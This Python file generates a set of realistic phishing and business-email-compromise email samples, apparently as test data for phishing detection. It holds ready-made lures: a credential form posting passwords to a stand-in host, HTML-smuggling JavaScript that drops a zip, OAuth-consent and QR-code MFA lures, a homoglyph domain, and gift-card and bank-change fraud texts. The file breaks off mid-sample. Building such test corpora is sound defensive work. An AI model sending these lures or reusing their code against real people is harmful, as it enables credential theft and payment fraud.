# ruff: noqa: E501
"""The modern phishing messages, one function each (see ../README.md)."""

from __future__ import annotations

import base64

from common import build, exe_bytes, iso_bytes, ooxml, pdf, png_logo, qr_png, rcv, safelink, zip_of

P = "phish/"


def r(host: str, ip: str, when: str) -> list[str]:
    return [rcv(host, ip, "mx1.example.com", when, "x" + ip.replace(".", "")[-5:])]


def m365_password_expiry() -> None:
    link = "https://0ffice365-portal-auth.com/owa/?login_hint=alex.morgan%40example.com&realm=example.com"
    html = f"""<html><body><table width="100%" style="font-family:'Segoe UI',Tahoma"><tr><td>
<p style="font-size:22px;color:#0078d4">Microsoft 365</p>
<p>Hello alex.morgan,</p>
<p>The password for your Microsoft 365 account <b>alex.morgan@example.com</b> expires today (11/27/2025).</p>
<p>To keep your current password and avoid losing access to Outlook, Teams and OneDrive, confirm below.</p>
<p><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Keep Current Password</a></p>
<p style="font-size:11px;color:#888">Microsoft respects your privacy. To learn more, please read our <a href="https://privacy.microsoft.com/en-us/privacystatement">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>"""
    build(P + "01_m365_password_expiry.eml", frm="Microsoft 365 <no-reply@0ffice365-portal-auth.com>",
          subject="Password Expiry Notice for alex.morgan@example.com", date="Thu, 27 Nov 2025 06:12:40 +0000",
          msgid="<20251127061240.5d1c9@0ffice365-portal-auth.com>",
          received=r("vps-2231.hostcheap.example", "203.0.113.45", "Thu, 27 Nov 2025 06:12:41 +0000"),
          dkim_domain="0ffice365-portal-auth.com", html=html)


def outlook_mailbox_full() -> None:
    link = "https://outlook-storage-upgrade.pages.dev/?email=alex.morgan@example.com"
    html = f"""<html><body style="font-family:Calibri,Arial"><div style="border:1px solid #ccc;padding:16px;max-width:560px">
<p><b>Outlook</b></p><p>Dear alex.morgan@example.com,</p>
<p>Your mailbox is full. <span style="color:red">49.8 GB / 50 GB</span></p>
<p>You will not be able to send or receive new messages. 17 incoming messages are on hold. Upgrade your storage within 24 hours to restore delivery.</p>
<p><a href="{link}" style="background:#0072c6;color:#fff;padding:8px 16px;text-decoration:none">Release Pending Messages</a></p>
<p style="font-size:10px">This email was sent from an unmonitored mailbox. &copy; 2025 Microsoft Corporation.</p></div></body></html>"""
    build(P + "02_outlook_mailbox_full.eml", frm="Mailbox Administrator <postmaster@kestrel-dental.example>",
          subject="[Action Required] Mailbox storage limit reached - 17 messages on hold",
          date="Wed, 26 Nov 2025 22:03:11 +0000", msgid="<a7d21f0e9c@kestrel-dental.example>",
          received=r("mail.kestrel-dental.example", "198.51.100.77", "Wed, 26 Nov 2025 22:03:12 +0000"),
          dkim_domain="kestrel-dental.example",
          text="Your mailbox is full. 17 incoming messages are on hold.\nRelease pending messages: " + link + "\n", html=html)


def mfa_reregister_workers() -> None:
    link = "https://mfa-sync.example-corp-it.workers.dev/enroll?u=YWxleC5tb3JnYW5AZXhhbXBsZS5jb20="
    text = f"""Hi Alex,

As part of our annual security review, all staff must re-register their multi-factor authentication
(MFA) by Friday 28 November. Accounts that are not re-registered will be locked out of Microsoft 365.

Re-register now: {link}

You will receive push notifications on your phone during the process. Please approve them.

IT Security Team
Example Corp
"""
    build(P + "03_mfa_fatigue_reregister.eml", frm="IT Security Team <it-security@examplecorp-support.com>",
          subject="Mandatory: MFA re-registration before Friday", date="Tue, 25 Nov 2025 07:55:20 -0500",
          msgid="<c0ffee12-7a7a-4b4b-9c9c-0d0d0e0e0f0f@examplecorp-support.com>",
          received=r("smtp.examplecorp-support.com", "203.0.113.119", "Tue, 25 Nov 2025 12:55:21 +0000"),
          dkim_domain="examplecorp-support.com", text=text)


def docusign_lure() -> None:
    link = "https://docusign.secure-envelope-review.com/Signing/?ti=8c2d1f0a6e4b49a7&email=alex.morgan@example.com"
    html = f"""<html><body style="background:#eaeaea"><table width="640" align="center" style="background:#fff;font-family:Helvetica,Arial">
<tr><td><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" width="116" alt="DocuSign"></td></tr>
<tr><td style="background:#1e4ca1;color:#fff;padding:28px"><p>Dana Whitfield sent you a document to review and sign.</p>
<p><a href="{link}" style="background:#ffc820;color:#333;padding:12px 24px">REVIEW DOCUMENT</a></p></td></tr>
<tr><td><p><b>Dana Whitfield</b><br>Please review and sign: <b>Q4 Compensation Adjustment - Alex Morgan.pdf</b></p>
<p><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>
<p style="font-size:11px">This message was sent to you by Dana Whitfield who is using the DocuSign Electronic Signature Service.</p></td></tr></table></body></html>"""
    build(P + "04_docusign_compensation_lure.eml", frm='"Dana Whitfield via DocuSign" <dse@esign-notify.example>',
          subject="Please DocuSign: Q4 Compensation Adjustment - Alex Morgan.pdf", date="Mon, 24 Nov 2025 16:45:02 +0000",
          msgid="<8c2d1f0a6e4b49a7.20251124164502@esign-notify.example>",
          received=r("mail.esign-notify.example", "198.51.100.140", "Mon, 24 Nov 2025 16:45:03 +0000"),
          dkim_domain="esign-notify.example", html=html)


def sharepoint_compromised_tenant() -> None:
    link = "https://harborlegalgroup-my.sharepoint.com/:o:/g/personal/mkessler_harborlegalgroup_onmicrosoft_com/EmR2vX8kq1NPqk4?e=Zm9v"
    html = f"""<html><body><table style="font-family:'Segoe UI'"><tr><td>
<p><b>Mark Kessler</b> shared a file with you</p>
<table style="border:1px solid #ddd;padding:12px"><tr><td><b>Remittance Advice - Example Corp - Nov 2025</b><br>This link will work for anyone.</td></tr></table>
<p><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#666">Microsoft respects your privacy. <a href="https://privacy.microsoft.com/en-US/privacystatement">Privacy Statement</a></p>
</td></tr></table></body></html>"""
    build(P + "05_sharepoint_remittance_compromised_tenant.eml", frm="Mark Kessler <mkessler@harborlegalgroup.example>",
          subject="Mark Kessler shared \"Remittance Advice - Example Corp\" with you", date="Tue, 25 Nov 2025 19:20:40 +0000",
          msgid="<PH0PR19MB5123E7F2@PH0PR19MB5123.namprd19.prod.outlook.com>",
          received=r("mail-bn7nam10on2120.outbound.protection.outlook.com", "40.107.92.120", "Tue, 25 Nov 2025 19:20:41 +0000"),
          dkim_domain="harborlegalgroup.example", html=html,
          text=f"Mark Kessler shared a file with you\nRemittance Advice - Example Corp - Nov 2025\nOpen: {link}\n")


def html_attachment_form() -> None:
    page = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft Excel Online</title>
<style>body{background:url(https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_11d9e3bcdfede9ce5ce5ace2d129f1c4.svg);font-family:Segoe UI}</style></head>
<body><div style="width:440px;margin:80px auto;background:#fff;padding:44px">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108">
<h2>Sign in to view the document</h2><p>Remittance_Advice_11-25.xlsx</p>
<form method="POST" action="https://portal.bluefin-logistics.example/wp-includes/js/office/next.php">
<input type="email" name="login" value="alex.morgan@example.com" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<input type="hidden" name="ref" value="remit">
<button type="submit" style="background:#0067b8;color:#fff">Sign in</button></form></div></body></html>"""
    text = """Good afternoon,

Please find attached the remittance advice for the payment released today against your invoices.

Kindly review and confirm receipt.

Regards,
Accounts Payable
Bluefin Logistics
"""
    build(P + "06_html_attachment_credential_form.eml", frm="Accounts Payable <ap@bluefin-logistics.example>",
          subject="Remittance Advice - Payment Released 11/25/2025", date="Tue, 25 Nov 2025 14:18:09 -0600",
          msgid="<001a01dc5e3f$7b2c1d40$71855e40$@bluefin-logistics.example>",
          received=r("mail.bluefin-logistics.example", "198.51.100.23", "Tue, 25 Nov 2025 20:18:10 +0000"),
          dkim_domain="bluefin-logistics.example", text=text,
          attachments=[(page.encode(), "text", "html", "Remittance_Advice_11-25.html")])


def html_smuggling_zip() -> None:
    payload = base64.b64encode(zip_of([("Statement_Nov2025.js", b"var s=WScript.CreateObject('WScript.Shell');" * 40)])).decode()
    page = f"""<html><head><title>Loading document...</title></head><body>
<p style="font-family:Arial">Your document is downloading. If it does not start, <a id="dl" href="#">click here</a>.</p>
<script>
var b64 = "{payload}";
var bin = atob(b64); var arr = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) {{ arr[i] = bin.charCodeAt(i); }}
var blob = new Blob([arr], {{type: "application/zip"}});
var a = document.getElementById("dl"); a.href = URL.createObjectURL(blob); a.download = "Statement_Nov2025.zip"; a.click();
</script></body></html>"""
    build(P + "07_html_smuggling_blob_zip.eml", frm="Billing Department <billing@cobalt-freight.example>",
          subject="Statement of account - November 2025", date="Wed, 26 Nov 2025 09:02:44 +0000",
          msgid="<20251126090244.6F1A2@cobalt-freight.example>",
          received=r("smtp.cobalt-freight.example", "203.0.113.61", "Wed, 26 Nov 2025 09:02:45 +0000"),
          dkim_domain="cobalt-freight.example",
          text="Hello,\n\nAttached is your statement of account for November. Open the attachment to view.\n\nBilling\n",
          attachments=[(page.encode(), "text", "html", "Statement_Nov2025.htm")])


def voicemail_html_redirect() -> None:
    target = base64.b64encode(b"https://voicemail-portal.cloud-audio-msg.com/play/?id=vm0042&u=").decode()
    page = f"""<html><head><meta charset="utf-8"></head><body>
<p>Loading audio message...</p>
<script>
var e = "alex.morgan@example.com";
window.location.href = atob("{target}") + btoa(e);
</script></body></html>"""
    html = """<html><body style="font-family:Segoe UI"><table style="border:1px solid #ddd;padding:14px">
<tr><td><b>&#9742; You have a new voicemail</b></td></tr>
<tr><td>From: +1 (215) 555-0187<br>Received: Wednesday, November 26, 2025 8:41 AM<br>Length: 00:00:42</td></tr>
<tr><td>The message is attached. Open the attachment to listen.</td></tr>
<tr><td style="font-size:10px;color:#777">Microsoft Teams Phone System | Voice Mail Service</td></tr></table></body></html>"""
    build(P + "08_voicemail_html_attachment_redirect.eml", frm="Voice Mail Service <voicemail@tele-svc-notify.example>",
          subject="New voicemail from +1 (215) 555-0187 (00:42)", date="Wed, 26 Nov 2025 13:41:30 +0000",
          msgid="<vm0042.1764164490@tele-svc-notify.example>",
          received=r("relay.tele-svc-notify.example", "198.51.100.201", "Wed, 26 Nov 2025 13:41:31 +0000"),
          dkim_domain="tele-svc-notify.example", html=html,
          attachments=[(page.encode(), "text", "html", "VM_Playback_0042_AUDIO.htm")])


def qr_inline_png() -> None:
    qr = qr_png("https://mfa-verify.office-secure-login.com/ms/?u=YWxleC5tb3JnYW5AZXhhbXBsZS5jb20")
    html = """<html><body style="font-family:Segoe UI"><div style="max-width:520px">
<p><b>Microsoft Authenticator</b></p>
<p>Dear alex.morgan,</p>
<p>Your multi-factor authentication (MFA) settings expire today. To avoid interruption to your email and Teams access, scan the QR code below with your phone camera and complete the re-validation.</p>
<p><img src="cid:mfa_qr_7731@mail" width="220" height="220" alt=""></p>
<p>This code is valid for 24 hours.</p>
<p style="font-size:10px;color:#777">Microsoft Security &copy; 2025</p></div></body></html>"""
    build(P + "09_qr_inline_mfa.eml", frm="Microsoft Authenticator <security-noreply@mfa-compliance.example>",
          subject="Action Required: Re-validate your MFA (expires today)", date="Thu, 27 Nov 2025 08:30:00 +0000",
          msgid="<qr7731.20251127@mfa-compliance.example>",
          received=r("out.mfa-compliance.example", "203.0.113.203", "Thu, 27 Nov 2025 08:30:01 +0000"),
          dkim_domain="mfa-compliance.example", text="Scan the QR code in this message to re-validate your MFA.\n",
          html=html, related=[(qr, "mfa_qr_7731@mail", "image/png")])


def qr_in_pdf() -> None:
    qr = qr_png("https://payroll-docs.example-hr-portal.com/benefits/2026/?e=alex.morgan@example.com")
    doc = pdf(["Example Corp - Human Resources", "2026 Benefits Open Enrollment", "",
               "Your enrollment is incomplete. Scan the code below with your phone",
               "to review and sign your 2026 benefits selection before Dec 1."], image=qr)
    text = """Hello Alex,

Please review the attached 2026 benefits enrollment document and complete your selection before December 1.
The document contains a secure code for mobile access.

Human Resources
"""
    build(P + "10_qr_in_pdf_benefits.eml", frm="HR Benefits <hr-benefits@benefits-enroll.example>",
          subject="2026 Open Enrollment - action required for Alex Morgan", date="Mon, 24 Nov 2025 11:11:11 +0000",
          msgid="<hrb-20251124-77@benefits-enroll.example>",
          received=r("mta1.benefits-enroll.example", "198.51.100.91", "Mon, 24 Nov 2025 11:11:12 +0000"),
          dkim_domain="benefits-enroll.example", text=text,
          attachments=[(doc, "application", "pdf", "2026_Benefits_Enrollment_AlexMorgan.pdf")])


def invoice_xlsm() -> None:
    text = """Dear Customer,

Please find attached invoice INV-2025-88213 for services rendered in October. Payment is overdue.

Note: the invoice is protected. Click "Enable Content" at the top of the document to view it.

Best regards,
Accounts Receivable
"""
    build(P + "11_invoice_macro_xlsm.eml", frm="Accounts Receivable <ar@primeline-supplies.example>",
          subject="OVERDUE: Invoice INV-2025-88213", date="Tue, 25 Nov 2025 10:01:10 +0100",
          msgid="<INV-2025-88213@primeline-supplies.example>",
          received=r("mail.primeline-supplies.example", "203.0.113.14", "Tue, 25 Nov 2025 09:01:11 +0000"),
          dkim_domain="primeline-supplies.example", text=text,
          attachments=[(ooxml("xlsm", macros=True), "application", "vnd.ms-excel.sheet.macroEnabled.12", "INV-2025-88213.xlsm")])


def invoice_iso() -> None:
    text = """Hi,

Attached are the shipping documents and the invoice for order PO-44172. Please check and confirm.

Thanks & regards
Logistics Team
"""
    build(P + "12_invoice_iso_exe.eml", frm="Logistics Team <docs@maersk-shipping-docs.com>",
          subject="RE: PO-44172 shipping documents / invoice", date="Wed, 26 Nov 2025 03:44:01 +0000",
          msgid="<2025112603440118.44172@maersk-shipping-docs.com>",
          received=r("vmi1188.contaboserver.example", "203.0.113.188", "Wed, 26 Nov 2025 03:44:02 +0000"),
          text=text, attachments=[(iso_bytes("PO-44172_Invoice.exe"), "application", "octet-stream", "PO-44172_Invoice.iso")])


def dhl_zip_exe() -> None:
    text = """Dear Customer,

Your parcel could not be delivered because the address was incomplete. Please see the attached
airway bill (AWB) and return it with the correct address.

DHL Express
"""
    build(P + "13_dhl_zip_exe.eml", frm="DHL Express <noreply@dhl-express-notice.com>",
          subject="DHL Shipment Notification: AWB 5583921044", date="Thu, 27 Nov 2025 02:20:33 +0000",
          msgid="<AWB5583921044@dhl-express-notice.com>",
          received=r("mail.dhl-express-notice.com", "198.51.100.55", "Thu, 27 Nov 2025 02:20:34 +0000"),
          text=text, attachments=[(zip_of([("AWB_5583921044.pdf.exe", exe_bytes())]), "application", "zip",
                                   "AWB_5583921044.zip")])


def ceo_gift_card() -> None:
    text = """Alex,

Are you available? I need you to handle a task for me discreetly. I'm in a board meeting and can't
talk on the phone.

Let me know as soon as you get this.

Dana Whitfield
Sent from my iPhone
"""
    build(P + "14_bec_ceo_gift_card_gmail.eml", frm="Dana Whitfield <dana.whitfield.office@gmail.com>",
          subject="Quick request", date="Thu, 27 Nov 2025 14:02:19 +0000",
          msgid="<CAMx2Wq7+Zt1pNk3=Rb0cV8yLhD4sFj9eKq2@mail.gmail.com>",
          received=r("mail-yw1-f171.google.com", "209.85.128.171", "Thu, 27 Nov 2025 14:02:20 +0000"),
          dkim_domain="gmail.com", text=text)


def ceo_gift_card_reply_to() -> None:
    text = """Hi Alex,

I need you to purchase 8 Apple gift cards ($200 each) for a client appreciation event today. This is
confidential, I want it to be a surprise. Scratch the back, take pictures of the codes and send them
to me by email. You'll be reimbursed this afternoon.

Thanks,
Dana

Dana Whitfield
Chief Executive Officer | Example Corp
"""
    build(P + "15_bec_ceo_gift_card_reply_to.eml", frm="Dana Whitfield <dana.whitfield@execmail-ops.example>",
          subject="Re: Quick request", date="Thu, 27 Nov 2025 14:21:07 +0000",
          msgid="<2f7e9a1c-3b5d-4e6f-8a9b-0c1d2e3f4a5b@execmail-ops.example>",
          received=r("smtp.execmail-ops.example", "203.0.113.210", "Thu, 27 Nov 2025 14:21:08 +0000"),
          dkim_domain="execmail-ops.example", extra=[("Reply-To", "dana.whitfield.ceo@outlook.com")], text=text)


def payroll_diversion() -> None:
    text = """Hi,

I recently changed banks and would like my direct deposit updated before the next payroll run.
Can you let me know what information you need, or send me the form?

I'm traveling this week so email is best.

Thanks,
Priya Nair
"""
    build(P + "16_bec_payroll_diversion.eml", frm="Priya Nair <priyanair.work@outlook.com>",
          to="Payroll <payroll@example.com>", subject="Direct deposit change", date="Wed, 26 Nov 2025 16:40:55 +0000",
          msgid="<SJ0PR05MB7741A9F2E0C@SJ0PR05MB7741.namprd05.prod.outlook.com>",
          received=r("mail-dm3nam02olkn2080.outbound.protection.outlook.com", "40.92.2.80", "Wed, 26 Nov 2025 16:40:56 +0000"),
          dkim_domain="outlook.com", text=text)


def vendor_bank_change() -> None:
    text = """Dear Accounts Payable,

Please be advised that due to an ongoing audit our company has changed its banking details. All
outstanding and future payments should be made to the new account below, effective immediately.

Bank: First Harbor Bank
Account name: Contoso Consulting LLC
Routing: 021000021
Account: 4837261950

Please confirm once your records are updated. Do not use the old account.

Regards,
Melissa Grant
Finance Manager, Contoso Consulting
"""
    build(P + "17_bec_vendor_bank_change_lookalike.eml", frm="Melissa Grant <m.grant@contoso-consultlng.example>",
          to="Accounts Payable <ap@example.com>", subject="Updated remittance details - Contoso Consulting",
          date="Tue, 25 Nov 2025 17:05:12 +0000", msgid="<f3e2d1c0b9a8@contoso-consultlng.example>",
          received=r("mail.contoso-consultlng.example", "198.51.100.171", "Tue, 25 Nov 2025 17:05:13 +0000"),
          dkim_domain="contoso-consultlng.example", extra=[("Reply-To", "melissa.grant.finance@gmail.com")], text=text)


def usps_lookalike() -> None:
    link = "https://usps.redelivery-parcel-care.com/track?id=US9514961195221"
    text = f"""USPS: Your package US9514961195221 is on hold at our facility due to an incomplete address.
Please update your address within 48 hours or the package will be returned to sender.

Update address: {link}

A redelivery fee of $0.30 applies.
USPS Customer Service
"""
    html = f"""<html><body style="font-family:Arial"><img src="https://www.usps.com/global-elements/header/images/utility-header/logo-sb.svg" width="140" alt="USPS">
<h3>Your package is on hold</h3><p>Tracking Number: <b>US9514961195221</b></p>
<p>We attempted to deliver your package but the address was incomplete. Please update your address within 48 hours.</p>
<p><a href="{link}" style="background:#333366;color:#fff;padding:10px 20px">Update Delivery Address</a></p>
<p style="font-size:10px">&copy; 2025 USPS. All Rights Reserved.</p></body></html>"""
    build(P + "18_usps_lookalike_delivery.eml", frm="USPS <tracking@usps-parcelcare.com>",
          subject="USPS: Delivery attempt failed - action required", date="Thu, 27 Nov 2025 05:30:45 +0000",
          msgid="<us9514961195221@usps-parcelcare.com>",
          received=r("srv1.usps-parcelcare.com", "203.0.113.99", "Thu, 27 Nov 2025 05:30:46 +0000"),
          text=text, html=html)


def paypal_punycode() -> None:
    host = "pаypal.com".encode("idna").decode()  # Cyrillic а
    link = f"https://www.{host}/signin/verify?country.x=US&token=EC-7KX1"
    html = f"""<html><body style="font-family:Helvetica"><img src="https://www.paypalobjects.com/webstatic/mktg/logo/pp_cc_mark_111x69.jpg" width="80" alt="PayPal">
<p>Hello,</p><p>We noticed unusual activity in your PayPal account and have temporarily limited some features.</p>
<p>To restore full access, please confirm your information.</p>
<p><a href="{link}" style="background:#0070ba;color:#fff;padding:10px 24px;border-radius:20px">Log in to PayPal</a></p>
<p style="font-size:11px">Case ID: PP-007-431-882-119<br>PayPal, Inc.</p></body></html>"""
    build(P + "19_paypal_punycode_homoglyph.eml", frm=f"PayPal <service@{host}>",
          subject="Your account access has been limited", date="Wed, 26 Nov 2025 11:02:13 +0000",
          msgid=f"<PP-007-431-882-119@{host}>",
          received=r(f"mail.{host}", "198.51.100.33", "Wed, 26 Nov 2025 11:02:14 +0000"), dkim_domain=host, html=html)


def chase_text_mismatch() -> None:
    html = """<html><body style="font-family:Arial"><p><b>CHASE</b></p>
<p>Dear Customer,</p><p>We have detected a sign-in attempt from a new device. For your protection, we placed a temporary hold on your debit card ending in 4417.</p>
<p>Please review the activity at <a href="https://chase-card-services.help-desk-review.com/auth/login.php">https://www.chase.com/verify</a></p>
<p>If we don't hear from you, your card may remain restricted.</p>
<p style="font-size:10px">JPMorgan Chase Bank, N.A. Member FDIC &copy; 2025</p></body></html>"""
    build(P + "20_chase_link_text_mismatch.eml", frm="Chase Fraud Alert <alerts@card-protect-notice.test>",
          subject="Fraud alert: temporary hold on your card", date="Tue, 25 Nov 2025 21:14:09 +0000",
          msgid="<hold4417.20251125@card-protect-notice.test>",
          received=r("mx.card-protect-notice.test", "203.0.113.17", "Tue, 25 Nov 2025 21:14:10 +0000"),
          html=html)


def oauth_consent() -> None:
    link = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=5f2c9a1e-3b7d-4e8f-a0b1-c2d3e4f5a6b7"
            "&response_type=code&redirect_uri=https%3A%2F%2Fdocviewer-pro.example%2Fauth%2Fcallback"
            "&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&state=x81k2")
    html = f"""<html><body style="font-family:Segoe UI"><p><b>Secure Document Viewer</b></p>
<p>Tom Becker has shared an encrypted document with you: <b>Board_Deck_FY26_DRAFT.pdf</b></p>
<p>To open encrypted content, sign in with your work account and grant the viewer access.</p>
<p><a href="{link}" style="background:#2b579a;color:#fff;padding:10px 20px">Open with Microsoft</a></p>
<p style="font-size:10px">Secure Document Viewer is a Microsoft 365 verified app.</p></body></html>"""
    build(P + "21_oauth_consent_phish.eml", frm="Secure Document Viewer <share@docviewer-pro.example>",
          subject="Tom Becker shared an encrypted document with you", date="Wed, 26 Nov 2025 15:30:00 +0000",
          msgid="<share-x81k2@docviewer-pro.example>",
          received=r("mail.docviewer-pro.example", "198.51.100.66", "Wed, 26 Nov 2025 15:30:01 +0000"),
          dkim_domain="docviewer-pro.example", html=html)


def coinbase_crypto() -> None:
    link = "https://coinbase-wallet-secure.com/recover?session=8812"
    html = f"""<html><body style="font-family:Arial"><p style="color:#0052ff;font-size:22px"><b>coinbase</b></p>
<p>Hi there,</p>
<p>A withdrawal of <b>0.8421 BTC</b> to address bc1q9x...k2f0 was requested from your account. If you did not request this withdrawal, cancel it immediately and secure your account.</p>
<p><a href="{link}" style="background:#0052ff;color:#fff;padding:12px 24px;border-radius:8px">Cancel withdrawal</a></p>
<p>If you do not respond within 24 hours, the withdrawal will be processed.</p>
<p style="font-size:10px">Coinbase, 2025. This is an automated message.</p></body></html>"""
    build(P + "22_coinbase_withdrawal_crypto.eml", frm="Coinbase <no-reply@coinbase-wallet-secure.com>",
          subject="Withdrawal request: 0.8421 BTC", date="Thu, 27 Nov 2025 01:12:00 +0000",
          msgid="<wd-8812@coinbase-wallet-secure.com>",
          received=r("mail.coinbase-wallet-secure.com", "203.0.113.150", "Thu, 27 Nov 2025 01:12:01 +0000"), html=html)


def crypto_airdrop() -> None:
    text = """Congratulations!

Your wallet has been selected for the $ETH community airdrop (season 3). You are eligible to
claim 1.25 ETH (~ $4,380).

Claim before Nov 30 at 23:59 UTC. Unclaimed tokens are redistributed.

Connect your wallet to claim: https://claim-eth-airdrop.netlify.app/?ref=season3

This is an automated message. Do not reply.
"""
    build(P + "23_crypto_airdrop_claim.eml", frm="ETH Rewards <rewards@airdrop-season3.example>",
          subject="You are eligible: 1.25 ETH airdrop claim", date="Wed, 26 Nov 2025 19:00:00 +0000",
          msgid="<airdrop-s3-120@airdrop-season3.example>",
          received=r("mail.airdrop-season3.example", "198.51.100.250", "Wed, 26 Nov 2025 19:00:01 +0000"), text=text)


def german_sparkasse() -> None:
    link = "https://sparkasse-pushtan-aktualisierung.com/de/login?kid=77120"
    html = f"""<html><body style="font-family:Arial"><p style="color:#ff0000;font-size:20px"><b>Sparkasse</b></p>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>aufgrund neuer gesetzlicher Vorgaben (PSD2) muss Ihr pushTAN-Verfahren bis zum 30.11.2025 aktualisiert werden.
Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen eingeschränkt.</p>
<p><a href="{link}" style="background:#ff0000;color:#fff;padding:10px 20px">Jetzt aktualisieren</a></p>
<p>Mit freundlichen Grüßen<br>Ihre Sparkasse</p></body></html>"""
    build(P + "24_de_sparkasse_pushtan.eml", frm="Sparkasse <service@sparkasse-kundeninfo.example>",
          subject="Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich", date="Tue, 25 Nov 2025 08:00:00 +0100",
          msgid="<ptan-77120@sparkasse-kundeninfo.example>",
          received=r("mail.sparkasse-kundeninfo.example", "203.0.113.71", "Tue, 25 Nov 2025 07:00:01 +0000"),
          text="Ihr pushTAN-Verfahren muss aktualisiert werden: " + link + "\n", html=html)


def french_colis() -> None:
    link = "https://laposte-suivi-colis.info/fr/paiement?colis=6A21459938107"
    text = f"""Bonjour,

Votre colis n° 6A21459938107 est en attente de livraison. Des frais de réexpédition de 1,99 EUR
n'ont pas été réglés.

Veuillez régler les frais sous 48 heures pour programmer une nouvelle livraison :
{link}

Sans action de votre part, le colis sera retourné à l'expéditeur.

La Poste - Colissimo
"""
    build(P + "25_fr_colissimo_frais.eml", frm="Colissimo <notification@suivi-colissimo-fr.example>",
          subject="Votre colis est en attente : frais de réexpédition", date="Mon, 24 Nov 2025 12:40:00 +0100",
          msgid="<6A21459938107@suivi-colissimo-fr.example>",
          received=r("smtp.suivi-colissimo-fr.example", "198.51.100.19", "Mon, 24 Nov 2025 11:40:01 +0000"), text=text)


def spanish_santander() -> None:
    link = "https://santander-clientes-verificacion.com/es/acceso"
    html = f"""<html><body style="font-family:Arial"><p style="color:#ec0000;font-size:20px"><b>Santander</b></p>
<p>Estimado cliente:</p><p>Hemos detectado un inicio de sesión inusual en su banca online. Por su seguridad, su cuenta ha sido suspendida temporalmente.</p>
<p>Para reactivarla, verifique su identidad en las próximas 24 horas.</p>
<p><a href="{link}" style="background:#ec0000;color:#fff;padding:10px 20px">Verificar ahora</a></p>
<p style="font-size:10px">Banco Santander, S.A.</p></body></html>"""
    build(P + "26_es_santander_cuenta_suspendida.eml", frm="Santander <avisos@santander-alertas.example>",
          subject="Aviso de seguridad: su cuenta ha sido suspendida", date="Tue, 25 Nov 2025 09:15:00 +0100",
          msgid="<aviso-5521@santander-alertas.example>",
          received=r("mail.santander-alertas.example", "203.0.113.5", "Tue, 25 Nov 2025 08:15:01 +0000"), html=html)


def safelinks_wrapped_phish() -> None:
    inner = "https://rnicrosoft-online.com/common/login?u=alex.morgan@example.com"
    html = f"""<html><body style="font-family:Segoe UI"><p>Hi Alex,</p>
<p>You have <b>4 new messages</b> waiting in Microsoft Teams from Tom Becker and 2 others.</p>
<p><a href="{safelink(inner)}" originalsrc="{inner}" style="background:#6264a7;color:#fff;padding:10px 20px">Reply in Teams</a></p>
<p style="font-size:10px">Microsoft Teams &middot; Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></body></html>"""
    build(P + "27_teams_missed_messages_safelinks.eml", frm="Microsoft Teams <noreply@teams-notify-mail.test>",
          subject="You have 4 new messages in Teams", date="Wed, 26 Nov 2025 10:10:10 +0000",
          msgid="<teams-4msg-1010@teams-notify-mail.test>",
          received=r("mail.teams-notify-mail.test", "198.51.100.110", "Wed, 26 Nov 2025 10:10:11 +0000"),
          dkim_domain="teams-notify-mail.test", html=html)


def google_open_redirect() -> None:
    link = "https://www.google.com/url?q=https%3A%2F%2Fadobe-doc-cloud.ipfs.dweb.link%2Fview.html%3Fe%3Dalex.morgan%40example.com&sa=D&sntz=1&usg=AOvVaw3xQ"
    html = f"""<html><body style="font-family:Arial"><img src="https://www.adobe.com/content/dam/cc/icons/Adobe_Corporate_Horizontal_Red_HEX.svg" width="120" alt="Adobe">
<p>Tom Becker has shared a document with you via Adobe Document Cloud.</p>
<p><b>Signed_Agreement_Final.pdf</b> (2 pages)</p>
<p><a href="{link}" style="background:#eb1000;color:#fff;padding:10px 20px;border-radius:16px">Review Document</a></p>
<p style="font-size:10px">Adobe Acrobat Sign &copy; 2025 Adobe. All rights reserved.</p></body></html>"""
    build(P + "28_adobe_share_google_redirect_ipfs.eml", frm="Adobe Acrobat <no-reply@acrobat-share.example>",
          subject="Tom Becker shared \"Signed_Agreement_Final.pdf\" with you", date="Thu, 27 Nov 2025 09:09:09 +0000",
          msgid="<acro-share-909@acrobat-share.example>",
          received=r("mail.acrobat-share.example", "203.0.113.9", "Thu, 27 Nov 2025 09:09:10 +0000"),
          dkim_domain="acrobat-share.example", html=html)


def netflix_payment() -> None:
    link = "https://netflix-billing-update.com/account/payment?id=NF-20251126"
    html = f"""<html><body style="font-family:Helvetica;background:#fff"><p style="color:#e50914;font-size:28px"><b>NETFLIX</b></p>
<p>Hi,</p><p>We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</p>
<p><a href="{link}" style="background:#e50914;color:#fff;padding:12px 24px">UPDATE ACCOUNT</a></p>
<p>Need help? We're here if you need it. Visit the Help Center or contact us now.</p>
<p>- Your friends at Netflix</p></body></html>"""
    build(P + "29_netflix_payment_declined.eml", frm="Netflix <info@mailer-netflix-billing.example>",
          subject="Your payment was declined - update your payment method", date="Wed, 26 Nov 2025 03:03:03 +0000",
          msgid="<nf-20251126@mailer-netflix-billing.example>",
          received=r("mailer-netflix-billing.example", "198.51.100.3", "Wed, 26 Nov 2025 03:03:04 +0000"), html=html,
          related=[(png_logo("NETFLIX"), "nflogo@mail", "image/png")])


def callback_norton_gmail() -> None:
    text = """Dear Customer,

Thank you for choosing Norton 360 Total Protection. Your annual subscription has been renewed
successfully and the amount below has been charged to your account.

Invoice No: NLK-88420193
Product: Norton 360 Deluxe (5 Devices) - 1 Year
Renewal Date: 11/26/2025
